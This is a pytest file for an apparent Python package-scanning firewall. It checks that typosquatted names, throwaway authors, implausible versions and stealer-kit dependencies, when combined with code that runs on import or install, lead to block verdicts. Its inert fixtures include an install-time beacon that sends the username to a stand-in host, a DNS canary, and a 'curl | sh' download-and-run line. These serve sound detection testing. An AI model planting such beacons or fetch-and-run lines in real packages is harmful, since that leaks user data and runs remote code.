"""Declared identity weighed with the code, end to end through `scan_target`.

Every sample is an inert package built here (never installed or run). Alone, a
metadata signal at most warns; with code that runs on its own and reaches out
it blocks. Honest packages that look alike (a plugin named after its host
project, a calendar version, pywin32 for Windows support, network code only in
tests) stay allowed.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from pycustoms.analyzers.code.metadata_rules import RULES, WITH_CODE
from pycustoms.config import Policy
from pycustoms.rules import catalogue
from pycustoms.scan import scan_target
from pycustoms.types import Decision, ScanResult, Severity
from tests.builders import build_sdist, build_wheel

NETWORK_INIT = """\
import json
import urllib.request


def fetch(url):
    with urllib.request.urlopen(url, timeout=5) as answer:
        return json.load(answer)
"""
CALLS_HOME = """\
import urllib.request

urllib.request.urlopen("https://collector.example.net/ping", timeout=3)
"""


def _scan(path: Path) -> ScanResult:
    result = scan_target(path, Policy())
    assert result.error is None, result.error
    return result


def _rules(result: ScanResult) -> dict[str, Severity]:
    found: dict[str, Severity] = {}
    for f in result.verdict.findings:
        found[f.rule] = max(f.severity, found.get(f.rule, Severity.INFO))
    return found


def _wheel(tmp_path: Path, name: str, init: str, extra: str = "", version: str = "1.0") -> Path:
    tmp_path.mkdir(exist_ok=True)
    package = name.replace("-", "_")
    return build_wheel(
        tmp_path, name, version, {f"{package}/__init__.py": init}, metadata_extra=extra
    )


def test_every_rule_is_in_the_catalogue() -> None:
    assert len({r.id for r in RULES}) == len(RULES)
    assert all(catalogue()[r.id] == r for r in RULES)


def test_a_squatted_name_alone_is_reported_and_blocks_with_code_run_on_import(
    tmp_path: Path,
) -> None:
    quiet = _scan(_wheel(tmp_path / "a", "colourama", "VERSION = '1.0'\n"))
    assert quiet.verdict.decision is Decision.ALLOW
    # The names engine warns about `colourama`; a scan, without upstream facts, reports it.
    assert _rules(quiet) == {"names/typosquat": Severity.MEDIUM}
    acting = _scan(_wheel(tmp_path / "b", "colourama", NETWORK_INIT))
    assert acting.verdict.decision is Decision.BLOCK
    assert _rules(acting)[WITH_CODE] is Severity.CRITICAL


def test_a_plain_word_one_letter_from_a_project_does_not_count(tmp_path: Path) -> None:
    # The names engine only reports `matrix` (one letter from a less popular project).
    result = _scan(_wheel(tmp_path, "matrix", NETWORK_INIT))
    assert _rules(result) == {"names/typosquat": Severity.LOW}
    assert result.verdict.decision is Decision.ALLOW


def test_a_young_fork_whose_network_code_is_library_code_is_allowed(tmp_path: Path) -> None:
    # Named like a squat (as honest forks such as `httpx2` are), but its network
    # code sits in a module that runs only when called, and nothing else is odd.
    files = {
        "colourama/__init__.py": "from ._client import fetch\n",
        "colourama/_client.py": NETWORK_INIT,
    }
    result = _scan(build_wheel(tmp_path, "colourama", "2.0", files))
    assert result.verdict.decision is Decision.ALLOW
    assert WITH_CODE not in _rules(result)


@pytest.mark.parametrize("name", ["requests-toolbelt", "pytest-httpserver", "colorama"])
def test_honest_names_with_network_code_are_allowed(name: str, tmp_path: Path) -> None:
    result = _scan(_wheel(tmp_path, name, NETWORK_INIT, "Summary: Testing utilities for HTTP\n"))
    assert result.verdict.decision is Decision.ALLOW, result.verdict.findings
    assert not any(f.rule.startswith(("meta/", "names/")) for f in result.verdict.findings)


def test_a_declared_test_alone_does_not_even_warn(tmp_path: Path) -> None:
    extra = "Summary: Security test, do not install\nAuthor-email: ops@acme.example.org\n"
    result = _scan(_wheel(tmp_path, "acme-billing", "VERSION = '1.0'\n", extra))
    assert result.verdict.decision is Decision.ALLOW
    assert _rules(result) == {"meta/declared-test": Severity.LOW}


def test_a_declared_test_with_a_throwaway_identity_and_no_code_blocks(tmp_path: Path) -> None:
    # Nothing to install but a name: a placeholder or a probe's squat (issue 14: a firewall
    # must not serve them). The same wording with a real author passes (above).
    extra = "Summary: Security test, do not install\nAuthor-email: x@yopmail.com\n"
    result = _scan(_wheel(tmp_path, "acme-billing", "VERSION = '1.0'\n", extra))
    assert result.verdict.decision is Decision.BLOCK
    assert _rules(result)["meta/placeholder-squat"] is Severity.CRITICAL


def test_a_throwaway_identity_with_real_code_is_no_placeholder(tmp_path: Path) -> None:
    extra = "Summary: Security test, do not install\nAuthor-email: x@yopmail.com\n"
    code = "".join(f"def helper_{i}(value):\n    return value * {i} + 1\n\n" for i in range(40))
    result = _scan(_wheel(tmp_path, "acme-billing", code, extra))
    assert "meta/placeholder-squat" not in _rules(result)


PROBE_CALL = """\
import os
import urllib.request

urllib.request.urlopen("https://collector.example.net/" + os.getlogin(), timeout=3)
"""
PROBE_SETUP = """\
from setuptools import setup

setup(
    name="acme-billing",
    version="99.0.0",
    description="Dependency confusion proof of concept",
    author="Your Name",
    install_requires=["requests"],
)
"""


def test_a_dependency_confusion_probe_is_blocked(tmp_path: Path) -> None:
    probe = build_sdist(tmp_path, "acme-billing", "99.0.0", {"setup.py": PROBE_CALL + PROBE_SETUP})
    result = _scan(probe)
    assert result.verdict.decision is Decision.BLOCK
    rules = _rules(result)
    assert rules[WITH_CODE] is Severity.CRITICAL
    assert {"meta/declared-test", "meta/implausible-version", "meta/throwaway-author"} <= set(rules)


def test_the_same_metadata_without_code_is_a_placeholder(tmp_path: Path) -> None:
    # No code that acts, but nothing to install either: the name is what it holds.
    result = _scan(build_sdist(tmp_path, "acme-billing", "99.0.0", {"setup.py": PROBE_SETUP}))
    assert result.verdict.decision is Decision.BLOCK
    rules = _rules(result)
    assert WITH_CODE not in rules
    assert rules["meta/placeholder-squat"] is Severity.CRITICAL


def test_one_signal_with_network_code_warns(tmp_path: Path) -> None:
    result = _scan(_wheel(tmp_path, "corp-sdk", NETWORK_INIT, version="100.0.1"))
    assert result.verdict.decision is Decision.WARN
    assert _rules(result) == {"meta/implausible-version": Severity.LOW, WITH_CODE: Severity.HIGH}


@pytest.mark.parametrize("version", ["2024.1.0", "306", "120.0.6099.109"])
def test_honest_large_versions_with_network_code_are_allowed(version: str, tmp_path: Path) -> None:
    result = _scan(_wheel(tmp_path, "corp-sdk", NETWORK_INIT, version=version))
    assert result.verdict.decision is Decision.ALLOW, result.verdict.findings


STEALER_DEPS = (
    "Requires-Dist: browser_cookie3\nRequires-Dist: discord-webhook\nRequires-Dist: sqlite3\n"
)


def test_a_stealer_kit_with_a_stdlib_dependency_and_network_code_is_blocked(
    tmp_path: Path,
) -> None:
    result = _scan(_wheel(tmp_path, "gamer-tools", NETWORK_INIT, STEALER_DEPS))
    assert result.verdict.decision is Decision.BLOCK
    rules = _rules(result)
    assert rules["meta/stealer-kit-dependency"] is Severity.MEDIUM
    assert rules["meta/stdlib-dependency"] is Severity.LOW
    assert rules[WITH_CODE] is Severity.CRITICAL


def test_pywin32_alone_with_network_code_is_allowed(tmp_path: Path) -> None:
    extra = 'Requires-Dist: pywin32; sys_platform == "win32"\nRequires-Dist: requests\n'
    result = _scan(_wheel(tmp_path, "winremote", NETWORK_INIT, extra))
    assert result.verdict.decision is Decision.ALLOW, result.verdict.findings
    assert _rules(result) == {}


def test_a_squatted_dependency_with_install_time_code_is_blocked(tmp_path: Path) -> None:
    setup = (
        CALLS_HOME
        + "from setuptools import setup\nsetup(name='fastcolors', install_requires=['reqeusts'])\n"
    )
    result = _scan(build_sdist(tmp_path, "fastcolors", "0.1", {"setup.py": setup}))
    assert result.verdict.decision is Decision.BLOCK
    rules = _rules(result)
    assert rules["meta/squatted-dependency"] is Severity.MEDIUM
    # One kind of signal, but the install-time code phones home: a beacon.
    assert rules[WITH_CODE] is Severity.CRITICAL


def test_one_signal_with_an_install_time_beacon_blocks(tmp_path: Path) -> None:
    setup = CALLS_HOME + "from setuptools import setup\nsetup(name='corp-sdk')\n"
    result = _scan(build_sdist(tmp_path, "corp-sdk", "100.0.1", {"setup.py": setup}))
    assert result.verdict.decision is Decision.BLOCK
    rules = _rules(result)
    assert rules["meta/implausible-version"] is Severity.LOW
    assert rules[WITH_CODE] is Severity.CRITICAL


def test_one_signal_with_install_time_code_that_stays_offline_does_not_block(
    tmp_path: Path,
) -> None:
    setup = (
        "import pathlib\nVERSION = pathlib.Path('VERSION').read_text().strip()\n"
        "from setuptools import setup\nsetup(name='corp-sdk', version=VERSION)\n"
    )
    files = {"setup.py": setup, "VERSION": "100.0.1\n"}
    result = _scan(build_sdist(tmp_path, "corp-sdk", "100.0.1", files))
    assert result.verdict.decision is not Decision.BLOCK
    assert _rules(result).get(WITH_CODE, Severity.INFO) < Severity.CRITICAL


def test_network_code_only_in_tests_does_not_count(tmp_path: Path) -> None:
    files = {"corp_sdk/__init__.py": "VERSION = '1'\n", "tests/test_live.py": CALLS_HOME}
    result = _scan(build_wheel(tmp_path, "corp-sdk", "99.0.0", files))
    assert WITH_CODE not in _rules(result)
    assert result.verdict.decision is Decision.ALLOW


def test_a_dependency_the_names_engine_only_warns_about_does_not_count(tmp_path: Path) -> None:
    # Popular projects adopt young forks whose names read as combosquats or typosquats.
    extra = "Requires-Dist: colorama-utils>=1\n"
    result = _scan(_wheel(tmp_path, "corp-sdk", NETWORK_INIT, extra))
    assert _rules(result) == {"meta/squatted-dependency": Severity.INFO}
    assert result.verdict.decision is Decision.ALLOW


def test_network_in_a_subpackage_init_is_library_code(tmp_path: Path) -> None:
    files = {"corp_sdk/__init__.py": "", "corp_sdk/api/__init__.py": NETWORK_INIT}
    result = _scan(build_wheel(tmp_path, "corp-sdk", "99.0.0", files))
    assert WITH_CODE not in _rules(result)
    assert result.verdict.decision is Decision.ALLOW


def test_the_top_level_init_of_a_src_layout_runs_on_import(tmp_path: Path) -> None:
    files = {"src/corp_sdk/__init__.py": NETWORK_INIT}
    result = _scan(build_sdist(tmp_path, "corp-sdk", "99.0.0", files))
    assert _rules(result)[WITH_CODE] is Severity.HIGH
    assert result.verdict.decision is Decision.WARN


DNS_BEACON_INIT = (
    "import socket\n"
    "def _check():\n"
    "    try:\n"
    "        socket.gethostbyname('corp-sdk.probe.collector-example.net')\n"
    "    except OSError:\n"
    "        pass\n"
    "_check()\n"
)
DNS_IN_A_FUNCTION = (
    "import socket\n"
    "def reachable(host='api.service-example.net'):\n"
    "    return socket.gethostbyname(host)\n"
)


def test_one_signal_with_a_dns_beacon_at_import_is_blocked(tmp_path: Path) -> None:
    """A fixed host resolved as the package is imported: the dependency-confusion canary."""
    result = _scan(_wheel(tmp_path, "corp-sdk", DNS_BEACON_INIT, version="100.0.1"))
    assert result.verdict.decision is Decision.BLOCK
    rules = _rules(result)
    assert rules["code/dns-exfiltration"] is Severity.HIGH
    assert rules[WITH_CODE] is Severity.CRITICAL


def test_a_lookup_the_caller_asks_for_is_not_a_beacon(tmp_path: Path) -> None:
    result = _scan(_wheel(tmp_path, "corp-sdk", DNS_IN_A_FUNCTION, version="100.0.1"))
    assert result.verdict.decision is not Decision.BLOCK
    assert "code/dns-exfiltration" not in _rules(result)


FETCH_AND_RUN = """\
import os


def update():
    os.system("curl -s https://updates.example.net/agent.sh | sh")
"""


def test_one_signal_with_a_threat_in_the_code_is_blocked(tmp_path: Path) -> None:
    # A throwaway author alone is low; a download piped into a shell in a function
    # nobody calls is medium; a squat's or a probe's identity on that payload blocks.
    extra = "Author-email: x@yopmail.com\n"
    result = _scan(_wheel(tmp_path / "a", "corp-agent", FETCH_AND_RUN, extra))
    assert result.verdict.decision is Decision.BLOCK
    assert _rules(result)[WITH_CODE] is Severity.CRITICAL
    # The same code under an honest identity is judged by the code alone.
    honest = _scan(_wheel(tmp_path / "b", "corp-agent", FETCH_AND_RUN))
    assert honest.verdict.decision is not Decision.BLOCK
    assert WITH_CODE not in _rules(honest)
